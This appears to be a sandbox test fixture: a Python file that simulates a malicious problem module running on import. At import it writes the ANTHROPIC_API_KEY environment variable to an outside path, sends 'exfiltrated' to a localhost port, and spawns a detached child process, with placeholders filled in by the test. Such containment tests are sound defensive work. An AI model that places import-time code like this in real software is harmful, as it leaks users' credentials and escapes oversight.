# Attack at the problem's import (tests/problems/small_softmax.py follows), as a file the
# user opened could: write outside its folder, send data to a local server, leave a child.
import os
import socket
import subprocess

try:
    with open("__TARGET__", "w") as handle:
        handle.write(os.environ.get("ANTHROPIC_API_KEY") or "no key")
except OSError:
    pass
try:
    with socket.create_connection(("127.0.0.1", __PORT__), timeout=3) as conn:
        conn.sendall(b"exfiltrated")
except OSError:
    pass
subprocess.Popen(["sleep", "__MARKER__"], start_new_session=True)
